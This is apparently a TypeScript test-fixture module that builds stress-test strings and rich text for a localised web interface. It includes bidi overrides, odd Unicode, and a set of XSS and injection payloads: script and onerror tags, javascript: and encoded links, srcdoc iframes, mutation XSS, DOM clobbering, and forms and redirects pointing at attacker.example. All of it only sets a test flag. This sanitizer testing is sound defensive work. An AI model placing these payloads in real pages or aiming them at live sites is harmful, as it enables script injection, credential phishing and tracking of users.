// Texts that break careless layouts: as long as allowed, unbreakable, right to left, full of markup. A script in them
// would set `window.__hostile`, which tests check. All addresses are on reserved domains.
import type { Language, Localised } from "#domain/state.ts";

export type Shape = "words" | "unbroken" | "rtl" | "markup" | "odd" | "least";
export const SHAPES: readonly Shape[] = ["words", "unbroken", "rtl", "markup", "odd", "least"];

const LANGUAGES: readonly Language[] = ["ja", "en", "zh-CN"];
const WORDS: Localised = {
  ja: "とても長い日本語の文章が、改行できる場所を探しながら、枠の外まで続いていきます。",
  en: "A remarkably long sentence keeps going, well past the edge of whatever box was drawn for it. ",
  "zh-CN": "这是一段非常长的中文文字，会一直延伸到为它准备的方框之外。",
};
const UNBROKEN: Localised = {
  ja: "ハッシュパワー超長期安定運用型特別企画商品第一号",
  en: "Hashpowerdonaudampfschifffahrtsgesellschaft",
  "zh-CN": "算力投资超长期稳健型特别方案第一期无空格无标点",
};
// Starts a bidi override and never ends it: a field that does not isolate this text reorders its neighbours.
const RTL = "\u202Eمنتج قوة التجزئة القياسي 6 أشهر — תוכנית כוח גיבוב (Hashgrove 7.8%) ۱۲٬۳۴۵ ¥12,345 \u2067abc 123";
const MARKUP = `"><img src=x onerror="window.__hostile=1"><script>window.__hostile=2</script></title></textarea><b>bold</b> &lt;i&gt; &amp;amp; {{7*7}} \${7*7} {0} %s ' OR 1=1 -- `;
const ODD =
  "Z\u0351\u0346\u036F\u0329\u0353a\u0300\u0316\u034El\u0334\u0321g\u0321\u0322o 👩‍👩‍👧‍👦🏳️‍🌈🇯🇵 \u200B\u200D\uFEFF\u00AD ﷽ 𠮷野家 \u2028 \t ｆｕｌｌ㍿ ½ ﬁ İı ";

const fill = (text: string, length: number): string =>
  [...text.repeat(Math.ceil(length / [...text].length))].slice(0, length).join("");

/** A plain text of a shape, at most `bound` characters long; "least" is one character. */
export function hostileText(shape: Shape, bound: number, language: Language): string {
  switch (shape) {
    case "words":
      return fill(WORDS[language], bound);
    case "unbroken":
      return fill(UNBROKEN[language], bound);
    case "rtl":
      return fill(RTL, Math.min(bound, 300));
    case "markup":
      return fill(MARKUP, Math.min(bound, 600));
    case "odd":
      return fill(ODD, Math.min(bound, 200));
    case "least":
      return language === "en" ? "." : "界";
  }
}

export const hostile = (shape: Shape, bound: number): Localised =>
  everyLanguage((language) => hostileText(shape, bound, language));

export const everyLanguage = (text: (language: Language) => string): Localised =>
  Object.fromEntries(LANGUAGES.map((language) => [language, text(language)])) as unknown as Localised;

/** Pieces of HTML. Each attempts something that rich text must not be able to do. */
const ATTACKS: readonly string[] = [
  `<script>window.__hostile="script"</script>`,
  `<img src="x" onerror="window.__hostile='onerror'">`,
  `<svg onload="window.__hostile='svg'"><animate onbegin="window.__hostile='begin'" attributeName="x" dur="1s"></animate></svg>`,
  `<a href="javascript:window.__hostile='href'">javascript link</a>`,
  `<a href="&#106;ava&#x09;script:window.__hostile='encoded'">encoded link</a>`,
  `<a href="data:text/html,<script>opener.__hostile=1</script>" target="_blank">data link</a>`,
  `<a href="https://attacker.example/" target="_blank">link without noopener</a>`,
  `<iframe srcdoc="<script>parent.__hostile='frame'</script>"></iframe>`,
  `<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">`,
  `<style>body{display:none!important}</style><link rel="stylesheet" href="https://attacker.example/x.css">`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">a cover over the page</div>`,
  `<form action="https://attacker.example/"><input name="password" autofocus onfocus="window.__hostile='focus'"><button>Log in</button></form>`,
  `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<img src="https://attacker.example/pixel.png" alt="tracking">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile='mutation'&gt;">`,
  `<p id="root" name="body">a paragraph that takes the page's own id</p><img name="getElementById" src="x">`,
  `<noscript><p title="</noscript><img src=x onerror=window.__hostile='noscript'>"></noscript>`,
];

const WIDE_TABLE = `<table><thead><tr>${"<th>a rather wide heading</th>".repeat(14)}</tr></thead><tbody><tr>${"<td>123,456,789,012</td>".repeat(14)}</tr></tbody></table>`;
const DEEP_LIST = "<ul><li>deeper".repeat(24);

/**
 * Rich text with every attack between ordinary paragraphs, exactly `length` characters if given.
 * Ends with unclosed tags.
 */
export function hostileHtml(length?: number): Localised {
  return everyLanguage((language) => {
    const paragraph = (shape: Shape): string =>
      `<p>${shape === "markup" ? MARKUP : hostileText(shape, 240, language)}</p>`;
    const attacks = ATTACKS.map((attack) => `${attack}\n<p>${WORDS[language]}</p>`).join("\n");
    const url = `https://attacker.example/${"very-long-path".repeat(20)}`;
    const html = `<h1>${UNBROKEN[language].repeat(5)}</h1>
${SHAPES.map(paragraph).join("\n")}
${attacks}
${WIDE_TABLE}
<pre>${"no place to wrap ".repeat(30)}</pre>
<p><a href="${url}">${url}</a></p>
<img src="pictures/there-is-no-such-picture.svg" width="9000" height="9000" alt="">
${DEEP_LIST}
<b><i><table><td>tags that nobody closes`;
    return length === undefined ? html : fill(`${html}\n`, length);
  });
}
